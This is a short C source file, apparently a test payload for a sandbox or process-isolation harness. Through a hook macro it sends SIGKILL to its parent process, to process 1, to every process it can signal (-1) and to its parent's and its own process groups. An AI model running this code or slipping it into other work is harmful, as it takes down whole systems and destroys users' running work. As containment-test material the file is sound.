/*
 * process-kill-everyone: Sends SIGKILL to -1, 0, its parent, its group, and
 * process 1.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>

static void shoot(void)
{
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
    killpg(getpgid(getppid()), SIGKILL);
    kill(0, SIGKILL);
}
#define HOOK() shoot()
